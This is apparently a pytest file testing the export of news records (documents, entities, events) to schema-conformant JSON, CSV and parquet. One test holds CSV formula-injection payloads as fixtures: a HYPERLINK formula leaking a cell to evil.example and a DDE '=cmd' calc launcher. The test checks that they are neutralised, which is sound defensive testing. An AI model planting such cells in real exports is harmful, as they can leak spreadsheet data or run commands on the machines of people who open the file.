"""Export: newsweave records v1 as SCHEMA.md lists them."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from newsweave.export.records import SCHEMA_FIELDS

from conftest import write

BODY = "The state unit chief resigned from the party on Friday, citing differences with the leadership."

TYPES = {"str": str, "int": int, "[str]": list, "[obj]": list}


def schema_tables(schema_md: str) -> dict[str, dict[str, str]]:
    """{kind: {field: type}} from SCHEMA.md's tables."""
    kinds: dict[str, dict[str, str]] = {}
    current = None
    for line in schema_md.splitlines():
        m = re.match(r"^## (\w+) ", line)
        if m:
            current = kinds.setdefault(m[1], {})
            continue
        row = re.match(r"^\|\s*([\w, ]+?)\s*\|\s*([^|]+?)\s*\|", line)
        if current is not None and row and row[1] not in ("field",) and not row[1].startswith("-"):
            for name in row[1].split(","):
                current[name.strip()] = row[2]
    return kinds


def test_export_documents_match_schema_md(cli, shared, tmp_path):
    tables = schema_tables((shared / "eval" / "SCHEMA.md").read_text(encoding="utf-8"))
    assert set(tables["document"]) == set(SCHEMA_FIELDS["document"])
    write(tmp_path / "a.txt", f"A Headline About A Resignation | SWS\n\n{BODY}")
    write(tmp_path / "b.jsonl", '{"text": "' + BODY + ' B."}\n')
    cli("ingest", "--silent", str(tmp_path))
    recs = cli.records()
    assert len(recs) == 2
    for rec in recs:
        assert rec["kind"] == "document"
        for field, typ in tables["document"].items():
            assert field in rec, field
            value = rec[field]
            if "or null" in typ:
                assert value is None or isinstance(value, str), field
            else:
                assert isinstance(value, TYPES[typ.split()[0]]), field


def test_export_entities_match_schema_md(cli, shared, tmp_path):
    tables = schema_tables((shared / "eval" / "SCHEMA.md").read_text(encoding="utf-8"))
    assert set(tables["entity"]) == set(SCHEMA_FIELDS["entity"])
    write(tmp_path / "a.txt", f"A Headline About A Resignation | SWS\n\nPATNA: Asha Verma quit the Lok Vikas Party. {BODY}")
    cli("ingest", "--silent", str(tmp_path))
    ents = cli.records(kind="entity")
    assert ents and {e["type"] for e in ents} <= {"PERSON", "PARTY", "ORG", "PLACE", "MEDIA"}
    for rec in ents:
        assert isinstance(rec["entity_id"], str) and isinstance(rec["name"], str)
        assert isinstance(rec["aliases"], list) and isinstance(rec["doc_ids"], list) and rec["doc_ids"]
        assert rec["kb_id"] is None or isinstance(rec["kb_id"], str)


def test_export_every_kind_has_every_schema_field(cli, shared):
    """The sample corpus exported: every record of every kind SCHEMA.md lists has every field."""
    from conftest import EXAMPLES

    tables = schema_tables((shared / "eval" / "SCHEMA.md").read_text(encoding="utf-8"))
    assert set(tables) == set(SCHEMA_FIELDS)
    assert cli("ingest", "--silent", str(EXAMPLES)).exit_code == 0
    recs = cli.records(kind=None)
    kinds = {r["kind"] for r in recs}
    assert kinds == set(tables), kinds
    for rec in recs:
        for field, typ in tables[rec["kind"]].items():
            assert field in rec, (rec["kind"], field)
            value = rec[field]
            if value is None:
                assert "null" in typ, (rec["kind"], field)
                continue
            base = typ.split()[0]
            want = {"str": str, "int": int, "[str]": list, "[obj]": list}[base]
            assert isinstance(value, want), (rec["kind"], field, value)


def test_export_doc_id_stable_across_databases(cli, tmp_path, tmp_path_factory):
    from conftest import Cli

    write(tmp_path / "a.txt", BODY)
    cli("ingest", "--silent", str(tmp_path))
    other = Cli(f"sqlite:///{tmp_path_factory.mktemp('db2') / 'o.db'}")
    other("ingest", "--silent", str(tmp_path))
    assert cli.records()[0]["doc_id"] == other.records()[0]["doc_id"]


def test_export_records_write_kind_then_schema_fields_then_extras():
    from newsweave.records import RECORD_TYPES, EventRecord

    for cls in RECORD_TYPES:
        assert cls.columns()[:len(SCHEMA_FIELDS[cls.kind])] == SCHEMA_FIELDS[cls.kind]
    ev = EventRecord(event_id="e1", type="join_party", actor_name="Ravi Kant", doc_ids=["d1", "d2"])
    out = ev.as_dict()
    assert list(out)[:3] == ["kind", "event_id", "story_id"] and out["kind"] == "event"
    assert "doc_ids" not in out and "post" not in out  # internal, and an empty extra left out
    assert EventRecord(event_id="e2", type="appointed", post="minister").as_dict()["post"] == "minister"


def test_export_docs_schema_md_lists_every_field_of_every_kind():
    """docs/schema.md, the format's description in the repository, names each kind's fields in
    order and says which are required, as records.py declares them."""
    from newsweave.records import RECORD_TYPES

    text = (Path(__file__).resolve().parent.parent / "docs" / "schema.md").read_text(encoding="utf-8")
    for cls in RECORD_TYPES:
        section = text.split(f"## {cls.kind} —", 1)[1].split("\n## ", 1)[0]
        rows = [line.split("|")[1:3] for line in section.splitlines() if line.startswith("| ") and "---" not in line]
        documented = [(f.strip(), role.strip()) for f, role in rows if f.strip() != "field"]
        declared = [(f, "required" if f in SCHEMA_FIELDS[cls.kind] else "extra") for f in cls.columns()]
        assert documented == declared, cls.kind


def test_export_kind_is_checked(cli):
    res = cli("export", "--kind", "events")
    assert res.exit_code == 2 and "no kind 'events'" in res.output and "did you mean 'event'" in res.output


def test_export_csv_to_a_folder_writes_one_file_per_kind(cli, tmp_path):
    import csv

    from newsweave.records import RECORD_TYPES

    write(tmp_path / "in" / "a.txt", "Ravi Kant, a leader of the Lok Vikas Party, joined the Jan Morcha in Patna on "
                                     "Monday, 12 March 2026, with 40 supporters.")
    assert cli("ingest", str(tmp_path / "in"), "--silent").exit_code == 0
    res = cli("export", "--format", "csv", "--output", str(tmp_path / "out") + "/")
    assert res.exit_code == 0, res.output
    written = sorted(p.name for p in (tmp_path / "out").iterdir())
    assert "document.csv" in written and "entity.csv" in written
    columns = {cls.kind: list(cls.columns()) for cls in RECORD_TYPES}
    for name in written:
        with open(tmp_path / "out" / name, encoding="utf-8", newline="") as fh:
            rows = list(csv.DictReader(fh))
        assert rows and list(rows[0]) == columns[name.removesuffix(".csv")], name


def test_export_parquet_one_typed_file_per_kind_read_back_by_pandas(cli, tmp_path):
    pd = pytest.importorskip("pandas")
    from newsweave.records import RECORD_TYPES

    write(tmp_path / "in" / "a.txt", "Ravi Kant Joins | SWS\n\nPATNA: Ravi Kant, a leader of the Lok Vikas Party, "
                                     "joined the Jan Morcha in Patna on Monday, 12 March 2026, with 40 supporters.")
    write(tmp_path / "in" / "b.txt", "Kant In Morcha | Daily Lamp\n\nPATNA: Ravi Kant, a leader of the Lok Vikas "
                                     "Party, joined the Jan Morcha in Patna on Monday, 12 March 2026, with 41 supporters.")
    assert cli("ingest", str(tmp_path / "in"), "--silent").exit_code == 0
    res = cli("export", "--format", "parquet", "--output", str(tmp_path / "pq"))
    assert res.exit_code == 0, res.output
    columns = {cls.kind: ["kind", *cls.columns()] for cls in RECORD_TYPES}
    frames = {p.stem: pd.read_parquet(p) for p in (tmp_path / "pq").glob("*.parquet")}
    assert {"document", "entity", "event", "story"} <= set(frames)
    for kind, frame in frames.items():
        assert list(frame.columns) == columns[kind], kind
    events = frames["event"]
    join = events[events["type"] == "join_party"].iloc[0]
    assert str(events["independent_sources"].dtype) == "int64" and str(events["single_source"].dtype) == "bool"
    assert sorted(f["value"] for f in join["followers_reported"]) == [40, 41]
    assert {s["outlet"] for s in join["sources"]} == {"SWS", "Daily Lamp"}
    assert join["conflicts"][0]["field"] == "followers"
    assert list(frames["entity"]["aliases"].iloc[0]) is not None
    # a file is not a folder of files
    (tmp_path / "one.parquet").write_bytes(b"")
    assert cli("export", "--format", "parquet", "--output", str(tmp_path / "one.parquet")).exit_code == 2
    assert cli("export", "--format", "parquet").exit_code == 2


def test_export_csv_folder_read_back_by_pandas(cli, tmp_path):
    pd = pytest.importorskip("pandas")
    from newsweave.records import RECORD_TYPES

    write(tmp_path / "in" / "a.txt", "Ravi Kant, a leader of the Lok Vikas Party, joined the Jan Morcha in Patna on "
                                     "Monday, 12 March 2026, with 40 supporters.")
    assert cli("ingest", str(tmp_path / "in"), "--silent").exit_code == 0
    assert cli("export", "--format", "csv", "--output", str(tmp_path / "out") + "/").exit_code == 0
    for path in (tmp_path / "out").glob("*.csv"):
        cls = next(c for c in RECORD_TYPES if c.kind == path.stem)
        assert list(pd.read_csv(path).columns) == list(cls.columns()), path.name


def test_export_csv_formula_cells_neutralised_numbers_kept(tmp_path):
    import csv
    import io

    from newsweave.export.writers import write_csv, write_csv_folder
    from newsweave.records import DocumentRecord, EventRecord, QuoteRecord

    hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tx", "\rx"]
    recs = [DocumentRecord(doc_id=f"d{i}", source=f"s{i}.txt", title=t, text="body") for i, t in enumerate(hostile)]
    recs += [EventRecord(event_id="e1", type="join_party", actor_name="=cmd|' /C calc'!A0", followers=-40),
             QuoteRecord(quote_id="q1", doc_id="d0", text="-- he said", start=-1, end=5)]
    buf = io.StringIO()
    write_csv(recs, buf)
    rows = list(csv.DictReader(io.StringIO(buf.getvalue())))
    assert [r["title"] for r in rows[:6]] == ["'" + t for t in hostile]
    assert rows[6]["actor_name"] == "'=cmd|' /C calc'!A0" and rows[6]["followers"] == "-40"  # a number stays one
    assert rows[7]["text"] == "'-- he said" and rows[7]["start"] == "-1"
    assert rows[0]["source"] == "s0.txt" and rows[0]["text"] == "body"  # harmless text as it is
    write_csv_folder(recs, tmp_path)
    with open(tmp_path / "document.csv", encoding="utf-8", newline="") as fh:
        assert [r["title"] for r in csv.DictReader(fh)] == ["'" + t for t in hostile]


def test_export_csv_cell_over_pythons_default_field_limit_read_back(tmp_path):
    import csv
    import sys

    from newsweave.export.writers import write_csv_folder
    from newsweave.records import EventRecord

    pd = pytest.importorskip("pandas")
    sources = [{"doc_id": f"{i:016x}", "outlet": f"Outlet {i}", "evidence": "Ravi Kant joined the Jan Morcha. " * 10,
                "copy_of": None} for i in range(400)]
    write_csv_folder([EventRecord(event_id="e1", type="join_party", actor_name="Ravi Kant", sources=sources)], tmp_path)
    path = tmp_path / "event.csv"
    default = csv.field_size_limit()
    assert path.stat().st_size > default  # one cell larger than Python's csv reads by default
    with open(path, encoding="utf-8", newline="") as fh, pytest.raises(csv.Error, match="field larger than field limit"):
        list(csv.DictReader(fh))
    try:  # as docs/schema.md says: raise the limit, then read
        csv.field_size_limit(sys.maxsize)
        with open(path, encoding="utf-8", newline="") as fh:
            row = next(csv.DictReader(fh))
    finally:
        csv.field_size_limit(default)
    assert len(row["sources"]) > default and json.loads(row["sources"]) == sources
    frame = pd.read_csv(path)
    assert json.loads(frame["sources"][0]) == sources
